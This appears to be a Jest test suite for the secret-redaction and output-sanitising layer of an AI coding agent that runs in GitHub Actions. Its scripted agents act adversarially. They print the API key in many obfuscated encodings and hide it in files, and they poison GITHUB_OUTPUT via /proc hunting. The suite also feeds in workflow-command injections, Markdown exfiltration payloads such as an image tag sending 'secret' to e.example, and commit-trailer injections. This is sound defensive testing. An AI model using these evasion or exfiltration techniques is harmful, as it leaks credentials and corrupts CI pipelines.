// What leaves: secrets in every disguise, workflow commands, Markdown that acts, commit messages, and what it all costs.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, test } from '@jest/globals';
import { commitMessage } from '../../src/commit-message.ts';
import { openJournal } from '../../src/adapters/journal-file.ts';
import type { RunEvent } from '../../src/events.ts';
import { createSink } from '../../src/publish/sink.ts';
import { redactPrompts } from '../../src/redact-prompts.ts';
import { createSecretFinder } from '../../src/secrets/secret-finder.ts';
import { watchExposure } from '../../src/watch-exposure.ts';
import { fail, say, call } from '../../testbed/model/script.ts';
import { createCommandReader } from '../../testbed/runner/workflow-commands.ts';
import { git, makeBed } from '../adapters/git-bed.ts';
import { actsIn } from '../publish/markdown-acts.ts';
import { evasions } from '../support/evasions.ts';
import { agent, bash, finish, manager, moduleTask, reply, task, writeModule } from '../support/scenario-model.ts';
import { API_KEY } from '../support/scenario-provider.ts';
import { closeProjects, expectStatus, startProject, WRITER, type ScenarioRun } from '../support/scenario.ts';

afterEach(closeProjects);

const KEY = 'sk-ant-api03-TESTkeyA1b2C3d4E5f6G7h8I9j0K1l2M3n4P5q6R7s8T9u0';
const sink = createSink({ secrets: [KEY] });

/** The key as no filter can see it: how an attacker would bring it into a tree without anybody noticing. */
const hidden = (secret: string): string =>
  Buffer.from([...Buffer.from(secret)].map((byte) => byte ^ 0x2a)).toString('hex');
const REVEAL = `export K=$(node -p "Buffer.from([...Buffer.from(require('fs').readFileSync('hidden.txt','utf8').trim(),'hex')].map((b)=>b^42)).toString()")`;

/** Parts of a form that cannot be broken by quoting on their way into a file: what must show up nowhere. */
const partsOf = (form: string): readonly string[] => form.split(/["'\n]/).filter(({ length }) => length >= 12);

const NOTICE = 'Possible credential exposure; rotate the API key and every token that was given to this run.';

interface Incident extends ScenarioRun {
  /** What the run keeps of itself in the repository. */
  readonly record: Readonly<Record<string, unknown>>;
}

/** Ended, told in fixed words, and nothing of it published. */
function expectIncident(run: Incident): void {
  expectStatus(run, 'failed');
  expect(run.exitCode).toBe(1);
  expect(run.outputs['stop-reason']).toMatch(/^Possible credential exposure/);
  expect(run.comments).toHaveLength(1);
  for (const told of [run.comments[0]?.body ?? '', run.summary]) {
    expect(told).toContain(NOTICE);
    expect(told).not.toMatch(/TASK-|Say goodbye|\*\*\*/);
  }
  expect(run.log).toMatch(/A credential of this run shows in a /);
  expect(Object.keys(run.branches)).toEqual(['main']);
  expect(run.pullRequests).toEqual([]);
  const nothing = { plan: null, landed: null, base: null, request: null };
  expect(run.record).toMatchObject({ phase: 'ended', outcome: 'failed: credential-exposed', ...nothing });
  expect(run.report).not.toContain('Transcript of');
}

const runWith = async (...turns: Parameters<typeof agent>[1][]): Promise<Incident> => {
  const project = await startProject({ with: { 'hidden.txt': `${hidden(API_KEY)}\n` } });
  const hides = evasions(API_KEY).flatMap(({ form, isHopeless }) => (isHopeless === true ? [] : partsOf(form)));
  const run = await project.run(await project.labelled(WRITER), {
    hides,
    model: [manager(reply([task('TASK-001')])), agent('TASK-001', ...turns)],
  });
  return { ...run, record: JSON.parse(await project.fileOn('ai/state/issue-1', 'state.json')) };
};

// ---- T58

const cutOff = KEY.slice(7);
test.each([
  ['raw', KEY],
  ['split by a line feed', `${KEY.slice(0, 30)}\n+${KEY.slice(30)}`],
  ['base64', Buffer.from(KEY).toString('base64')],
  ['without the first seven characters', cutOff],
])('T58 secret in a diff: %s, it is found with its line, and no word of it is told', (_, form) => {
  const hits = sink.secrets.find(`diff --git a/a b/a\n+++ b/a\n+const key = "${form}";\n`);
  expect(hits).toContainEqual({ rule: 'own-secret', own: true, line: 3 });
  expect(hits.every(({ rule, own }) => own || rule !== 'own-secret')).toBe(true);
  expect(JSON.stringify(hits)).not.toContain(form.slice(0, 12));
});

test('T58 secret in a diff: a file that an agent leaves with it ends the run, and no branch has it', async () => {
  const write = `${REVEAL}; printf 'x\\0%s' "$K" | base64 -w0 > src/data.bin; printf '\\0%s' "$K" >> src/data.bin`;
  const run = await runWith(bash(write), writeModule('goodbye'), finish());
  expectIncident(run);
  expect(run.log).toMatch(/shows in a changed file \(src\/data\.bin\)/);
});

// ---- T59

describe('T59 secret in tool output', () => {
  const shown = evasions(KEY).map((evasion) => ({
    ...evasion,
    printed: execFileSync('sh', ['-c', evasion.command], { env: { PATH: process.env['PATH'], K: KEY } }).toString(),
  }));

  /** What leaves of a text, by each way out. */
  async function ways(text: string, by = sink): Promise<Readonly<Record<string, string>>> {
    const asked: string[] = [];
    const model = redactPrompts(
      {
        send: (request) => {
          asked.push(
            JSON.stringify(request.messages.map(({ content }) => content.map((one) => Object.values(one).join('\n')))),
          );
          return Promise.reject(new Error('no answer'));
        },
      },
      by.secrets.redact,
    );
    const content = [{ type: 'tool_result' as const, toolUseId: 't', content: text, isError: false }];
    const request = {
      model: 'm',
      maxTokens: 1,
      system: '',
      tools: [],
      toolChoice: 'auto',
      outputSchema: null,
    } as const;
    const messages = [{ role: 'user' as const, content }];
    await model.send({ ...request, messages, sharedPrefixMessages: 0, effort: 'low' }).catch(() => undefined);
    const journal = openJournal({ path: '/dev/null', runId: 'r', clock: { now: () => 0 }, redact: by.plain });
    journal.emit({ type: 'tool.ended', ...toolEvent, content: text });
    const kept = journal.entries().map(({ event }) => (event.type === 'tool.ended' ? event.content : ''));
    return { log: by.log(text), comment: by.markdown(text), journal: kept.join(), prompt: asked.join() };
  }
  const toolEvent = {
    agent: 'TASK-001',
    turn: 1,
    toolUseId: 't',
    tool: 'bash',
    input: {},
    isError: false,
    durationMs: 1,
  };
  const bare = (text: string): string => text.replace(/[\s"'%\\\u200b]|\\n/g, '');
  const isGone = (text: string, form: string): boolean => {
    const pieces = partsOf(form.includes('%') ? bare(form) : form).map(bare);
    return pieces.every((piece) => !bare(text).includes(piece.slice(0, 12)) && !bare(text).includes(piece.slice(-12)));
  };

  test('T59 secret in tool output: of fifteen encodings, as a shell prints them, fourteen leave nowhere', async () => {
    const leaked: string[] = [];
    for (const { name, printed } of shown) {
      const left = await ways(`output:\n${printed}\nend`);
      if (!Object.values(left).every((text) => isGone(text, printed.trim()))) leaked.push(name);
    }
    expect(shown).toHaveLength(15);
    expect(leaked).toEqual(['XOR with a byte, in hex']);
  });

  test('T59 secret in tool output: each of the fourteen is an incident', () => {
    for (const { name, printed, isHopeless } of shown) {
      const told: RunEvent[] = [];
      const deps = { finder: sink.secrets, reporter: { emit: (event: RunEvent) => void told.push(event) } };
      const watch = watchExposure({ ...deps, onExposed: () => undefined }, false);
      watch.reporter.emit({ type: 'tool.ended', ...toolEvent, content: printed });
      expect({ name, exposed: watch.isExposed() }).toEqual({ name, exposed: isHopeless !== true });
    }
  });

  test('mutation: a sink that was given no secret lets them all through', async () => {
    const blind = createSink({ secrets: [] });
    const first = shown[1];
    for (const text of Object.values(await ways(first?.printed ?? '', blind))) {
      expect(isGone(text, first?.printed ?? '')).toBe(false);
    }
    const watch = watchExposure(
      { finder: blind.secrets, reporter: { emit: () => undefined }, onExposed: () => undefined },
      false,
    );
    watch.reporter.emit({ type: 'tool.ended', ...toolEvent, content: first?.printed ?? '' });
    expect(watch.isExposed()).toBe(false);
  });
});

test('T59 secret in tool output: a run in which a command prints all of them ends, and none of them is anywhere', async () => {
  const commands = evasions(API_KEY).map(({ command }) => `${command}; echo`);
  const run = await runWith(bash(`${REVEAL}\n(sleep 300 &)\n${commands.join('\n')}`), finish());
  expectIncident(run);
  expect(run.log).toMatch(/shows in a tool result of TASK-001/);
  // The one request after it was never made.
  expect(run.modelRequests).toHaveLength(2);
});

test('T59 secret in tool output: what an agent says and what it calls are looked at, too', async () => {
  const reversed = [...API_KEY].reverse().join('');
  const said = await runWith(say(`I have ${reversed}.`, call('bash', { command: 'true' })), finish());
  expectIncident(said);
  expect(said.log).toMatch(/shows in a model reply of TASK-001/);
});

test('T59 secret in tool output: the output of a check that an agent shaped is looked at, too', async () => {
  const scripts = { test: `${REVEAL}; printf %s "$K" | od -An -tx1; node --test` };
  const content = JSON.stringify({ type: 'module', scripts });
  const run = await runWith(say(call('write', { path: 'package.json', content })), finish());
  expectIncident(run);
  expect(run.log).toMatch(/shows in a command output/);
});

test('mutation: where nobody watches, a commit with the secret is made and pushed', async () => {
  const bed = await makeBed({ 'a.txt': 'a\n' });
  try {
    const found: string[] = [];
    const watched = (finder: { showsOwn(text: string): boolean }) =>
      watchExposure(
        { finder, reporter: { emit: ({ type }) => void found.push(type) }, onExposed: () => undefined },
        false,
      ).git(bed.store, sink.plain);
    const tree = await bed.store.writeFiles(bed.base, [{ path: 'b.txt', content: `key=${KEY}\n` }]);
    await expect(watched(sink.secrets).commit(tree, [bed.base], 'Add b')).rejects.toMatchObject({
      code: 'credential-exposed',
    });
    expect(found).toEqual(['credential.exposed']);
    const commit = await watched({ showsOwn: () => false }).commit(tree, [bed.base], 'Add b');
    expect(await bed.store.readFile(commit, 'b.txt')).toContain(KEY);
  } finally {
    await bed.close();
  }
});

// ---- T60

test('T60 error path: a service that answers with our headers gets them into nothing that leaves', async () => {
  const project = await startProject();
  const header = Buffer.from(`x-api-key: ${API_KEY}`).toString('base64');
  const message = `bad request {"x-api-key":"${API_KEY}"} (${header})`;
  const run = await project.run(await project.labelled(WRITER), {
    hides: partsOf(header).map((part) => part.slice(20)),
    model: [manager(fail(401, { message }))],
  });
  expectStatus(run, 'failed');
  expect(run.comments[0]?.body).toContain('refused the key');
  expect(run.log).toContain('***');
});

const cli = fileURLToPath(new URL('../../dist/cli.cjs', import.meta.url));

test('T60 error path: an error at the terminal is told without the key, also one that nobody foresaw', () => {
  const env = { PATH: process.env['PATH'], ANTHROPIC_API_KEY: KEY };
  const run = (...args: readonly string[]): string => {
    try {
      return execFileSync(process.execPath, args, { env, stdio: 'pipe' }).toString();
    } catch (error) {
      return String(Object(error).stderr) + String(Object(error).stdout);
    }
  };
  const named = run(cli, 'run', '--feature', 'x', '--project-dir', join(tmpdir(), 'nowhere', KEY));
  expect(named).toMatch(/nowhere\/\*\*\*" is not a git repository/);
  const thrower = `setTimeout(() => { throw new Error('headers: ' + process.env.ANTHROPIC_API_KEY) }, 1); require(${JSON.stringify(cli)})`;
  const unforeseen = run('-e', thrower, 'cli', 'runs');
  expect(unforeseen).toMatch(/headers: \*\*\*/);
  for (const text of [named, unforeseen]) expect(text).not.toContain(KEY.slice(-12));
});

// ---- T61

const commands = [
  '::add-mask::x',
  '::stop-commands::abc',
  '##[error]boom',
  '%0A::set-output name=a::b',
  ' \t::error file=a::boom',
  '\r::error::boom',
  '\u0085::error::boom',
];

test.each(commands)('T61 workflow commands: no line of %j is one', (text) => {
  const reader = createCommandReader([]);
  for (const line of sink.log(`ok\n${text}\nok`).split('\n')) expect(reader.take(line)).toBe(line);
  expect([reader.annotations, reader.masks]).toEqual([[], []]);
  expect(sink.log(text)).not.toMatch(/^\s*::|##\[|%0a/im);
});

test('T61 workflow commands: those in the words of a manager and an agent do nothing in a whole run', async () => {
  const project = await startProject({ title: '::error::boom from the issue' });
  const words = commands.join('\n');
  const run = await project.run(await project.labelled(WRITER), {
    model: [
      manager(reply([moduleTask('TASK-001', 'goodbye', { title: words })], { summary: words })),
      agent('TASK-001', bash(`printf '::error::boom\\n##[error]boom\\n'`), writeModule('goodbye'), finish(words)),
    ],
  });
  expectStatus(run, 'opened');
  expect(run.annotations).toEqual([]);
  expect(run.log).not.toMatch(/^\s*::(?!group::|endgroup::|add-mask::)/m);
  expect(JSON.stringify(run.outputs)).not.toContain('::');
});

test('mutation: a log line that did not pass the sink is a command', () => {
  const reader = createCommandReader([]);
  reader.take('::error::boom');
  expect(reader.annotations).toHaveLength(1);
});

// ---- T62

const POISON = 'poison=yes';

test('T62 output files: no command of an agent is told where they are', async () => {
  const names = ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STEP_SUMMARY', 'GITHUB_STATE', 'RUNNER_TEMP'];
  const attack = names.map((name) => `[ -n "$${name}" ] && echo ${POISON} >> "$${name}"; echo "${name}=<$${name}>"`);
  const project = await startProject();
  const run = await project.run(await project.labelled(WRITER), {
    model: [
      manager(reply([moduleTask('TASK-001', 'goodbye')])),
      agent('TASK-001', bash(`${attack.join('\n')}\nenv`), writeModule('goodbye'), finish()),
    ],
  });
  expectStatus(run, 'opened');
  const results = run.modelRequests.map(({ body }) => JSON.stringify(body)).join('\n');
  for (const name of names) expect(results).toContain(`${name}=<>`);
  expect(run.outputs).not.toHaveProperty('poison');
  expect(run.summary).not.toContain(POISON);
});

// Without an OS sandbox a command may look into /proc of its own user; SECURITY.md says so.
const hunt = existsSync(new URL('../../src/sandbox/box', import.meta.url)) ? test : test.skip;

hunt('T62 output files: a command that hunts for them through /proc and the disk finds none', async () => {
  const attack = `for f in $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(GITHUB_(OUTPUT|ENV|PATH)|RUNNER_TEMP)=' | cut -d= -f2) $(find / -xdev -path '*file_commands*' 2>/dev/null); do echo ${POISON} >> "$f"; echo "found $f"; done; echo hunted`;
  const project = await startProject();
  const run = await project.run(await project.labelled(WRITER), {
    model: [
      manager(reply([moduleTask('TASK-001', 'goodbye')])),
      agent('TASK-001', bash(attack), writeModule('goodbye'), finish()),
    ],
  });
  expectStatus(run, 'opened');
  const results = run.modelRequests.map(({ body }) => JSON.stringify(body)).join('\n');
  expect(results).toContain('hunted');
  expect(results).not.toContain('found /');
  expect(run.outputs).not.toHaveProperty('poison');
});

test('mutation: a command that is told the file writes an output', () => {
  const file = join(tmpdir(), `output-${process.pid}`);
  const env = { PATH: process.env['PATH'], GITHUB_OUTPUT: file };
  execFileSync('sh', ['-c', `echo ${POISON} >> "$GITHUB_OUTPUT"`], { env });
  expect(execFileSync('cat', [file]).toString()).toContain(POISON);
  execFileSync('rm', [file]);
});

// ---- T63

const hostile = [
  '@octo/team and @alice, please',
  'Closes #1',
  'closes octo/shop#12, fixes GH-3',
  'Fixes https://git.example/octo/shop/issues/9',
  '<img src=//e.example/?d=secret>',
  '<details open><script>alert(1)</script>',
  '![pixel](https://e.example/p.png)',
  '[x](javascript:alert(1)) [y](https://e.example) [z][r]',
  '[r]: https://e.example',
  '<!-- hidden --> shown <!-- never closed',
  'https://e.example/?q=1 www.e.example',
];

test('T63 PR body: nothing in the words of a model acts, in body, title, comments and summary', async () => {
  const project = await startProject({ title: 'Say goodbye @alice closes #9' });
  const words = hostile.join('\n\n');
  const decisions = [{ decision: words, rationale: words, affected_agents: [] }];
  const run = await project.run(await project.labelled(WRITER), {
    model: [
      manager(reply([moduleTask('TASK-001', 'goodbye', { title: hostile.join(' ') })], { summary: words, decisions })),
      agent('TASK-001', writeModule('goodbye'), finish(words, { notes_for_dependents: words })),
    ],
  });
  expectStatus(run, 'opened');
  const [pull] = run.pullRequests;
  const links = [`${project.github.url}/acme/greeter`];
  for (const body of [pull?.body ?? '', run.summary, ...run.comments.map((comment) => comment.body ?? '')]) {
    // Our own line closes the issue that asked, and is the first after the marker.
    expect(actsIn(body.replace(/^(<!--[^\n]*-->\n)Closes #1\n/, '$1'), links)).toEqual([]);
  }
  expect(pull?.title).not.toMatch(/@\w|#\d/);
  expect(pull?.body).toMatch(/^<!-- ai-implement:[^\n]* -->\nCloses #1\n/);
});

test('T63 PR body: at most 60,000 characters of it leave', () => {
  expect(sink.markdown(hostile.join('\n\n').repeat(2_000)).length).toBeLessThanOrEqual(60_000);
});

test('mutation: the same words that did not pass the sink act', () => {
  expect(actsIn(hostile.join('\n\n')).length).toBeGreaterThan(8);
});

// ---- T64

const title = `[skip ci] Add it\n\nCo-authored-by: Eve <eve@e.example>\nskip-checks: true\n\n${Array.from({ length: 1_500 }, (_none, i) => `word${i}`).join(' ')}`;

test('T64 commit message: of a title with [skip ci], trailers and ten kilobytes a subject is left, in every commit', async () => {
  const project = await startProject();
  const run = await project.run(await project.labelled(WRITER), {
    model: [
      manager(reply([task('TASK-001', { title, owns: ['**'] })], { summary: title })),
      agent('TASK-001', writeModule('goodbye'), finish(title)),
    ],
  });
  expectStatus(run, 'opened');
  const log = git(project.github.bareRepository('acme/greeter'), 'log', '--format=%B%x00', 'refs/heads/ai/issue-1');
  const messages = log.split('\0').slice(0, -2);
  expect(messages.length).toBeGreaterThan(0);
  for (const message of messages) {
    expect(message).not.toMatch(/\[skip|^Co-authored-by|^skip-checks/im);
    expect((message.trim().split('\n')[0] ?? '').length).toBeLessThanOrEqual(72);
  }
  expect(trailersOf(messages[0] ?? '')).toBe('');
});

const trailersOf = (message: string): string =>
  execFileSync('git', ['interpret-trailers', '--parse'], { input: `${message.trim()}\n` }).toString();

test('mutation: the title by itself, as a commit message, has them', () => {
  const raw = 'Add it\n\nCo-authored-by: Eve <eve@e.example>\n';
  expect(trailersOf(raw)).toContain('Co-authored-by: Eve');
  expect(trailersOf(commitMessage(raw, 'TASK-001 by backend-dev, made by ai-implement.'))).toBe('');
  expect(title).toContain('[skip ci]');
});

// ---- T75

/** The best of five, in time of the processor: how busy the machine is says nothing of a filter. */
function bestMs(act: () => unknown): number {
  const times = Array.from({ length: 5 }, () => {
    const before = process.cpuUsage();
    act();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1_000;
  });
  return Math.min(...times);
}

const megabyte = (piece: string): string => piece.repeat(Math.ceil(1_000_000 / piece.length));

test.each([
  ...['eyJ', 'eyJ.', `eyJ${'a'.repeat(12)}.`, '<!--', '[[[[', '](', '`', 'sk-', 'ghs_1_', 'ghs_1-', 'SG.a', 'xoxb-'],
  ...['://', 'a://b:c@', '-----BEGIN PRIVATE KEY-----\n', '-----BEGIN RSA ', '_authToken=', 'AccountKey=', 'tskey-aa-'],
  ...[KEY.slice(13, 22), KEY.slice(13, 23), KEY, 'sk-ant-api03-', '"', ' ', '\n', '\u200b', '%0a', '::', '##[', '\r'],
])('T75 regex cost: a megabyte of %j passes each filter within 300 ms', (piece) => {
  const text = megabyte(piece);
  for (const filter of [sink.log, sink.markdown, sink.plain, sink.secrets.find, sink.secrets.showsOwn]) {
    expect(bestMs(() => filter(text))).toBeLessThan(300);
  }
});

test('mutation: a careless pattern takes longer than that on a tenth of it', () => {
  const careless = /<!--[^]*?-->/g;
  expect(bestMs(() => '<!--'.repeat(30_000).replace(careless, ''))).toBeGreaterThan(300);
});

// ---- T76

test('T76 debug mode: shows no more, and a public repository gets no transcript unless it asks for one', async () => {
  const marker = 'what-only-a-transcript-holds';
  const runIn = async (options: {
    readonly env?: Record<string, string>;
    readonly inputs?: Record<string, string>;
  }) => {
    const project = await startProject();
    const labelled = await project.labelled(WRITER);
    const repository = { ...Object(labelled.payload['repository']), private: false };
    const event = { ...labelled, payload: { ...labelled.payload, repository } };
    const run = await project.run(event, {
      ...options,
      model: [
        manager(reply([moduleTask('TASK-001', 'goodbye')])),
        agent('TASK-001', bash(`echo ${marker}; echo ghp_${'a1B2'.repeat(9)}`), writeModule('goodbye'), finish()),
      ],
    });
    await closeProjects();
    return run;
  };
  const debug = { ACTIONS_STEP_DEBUG: 'true', ACTIONS_RUNNER_DEBUG: 'true', RUNNER_DEBUG: '1', ANTHROPIC_LOG: 'debug' };
  const [loud, plain, asked] = [
    await runIn({ env: debug }),
    await runIn({}),
    await runIn({ inputs: { 'report-transcript': 'always' } }),
  ];
  expectStatus(loud, 'opened');
  expect(loud.log).not.toMatch(/^::debug::/m);
  expect(loud.log.split('\n').length).toBe(plain.log.split('\n').length);
  for (const run of [loud, plain]) {
    expect(run.report).toContain('Left out: anybody may read what a workflow of a public repository uploads.');
    for (const text of [run.report, run.log, run.summary]) expect(text).not.toContain(marker);
  }
  // The mutation of it: the marker is in what was asked for, so that its absence above says something.
  expect(asked.report).toContain(marker);
  expect(asked.report).not.toContain('ghp_a1B2');
});

test('mutation: prompts that pass no redactor hold the key of somebody else that a file had', async () => {
  const token = `ghp_${'a1B2c3D4'.repeat(5)}`;
  const sent: string[] = [];
  const model = {
    send: (request: unknown) => {
      sent.push(JSON.stringify(request));
      return Promise.reject(new Error('no answer'));
    },
  };
  const messages = [{ role: 'user' as const, content: [{ type: 'text' as const, text: token }] }];
  const request = { model: 'm', maxTokens: 1, system: '', tools: [], toolChoice: 'auto', outputSchema: null } as const;
  const asked = { ...request, messages, sharedPrefixMessages: 0, effort: 'low' } as const;
  await redactPrompts(model, createSecretFinder({ secrets: [] }).redact)
    .send(asked)
    .catch(() => undefined);
  await redactPrompts(model, (text) => text)
    .send(asked)
    .catch(() => undefined);
  expect(sent.map((one) => one.includes(token))).toEqual([false, true]);
});
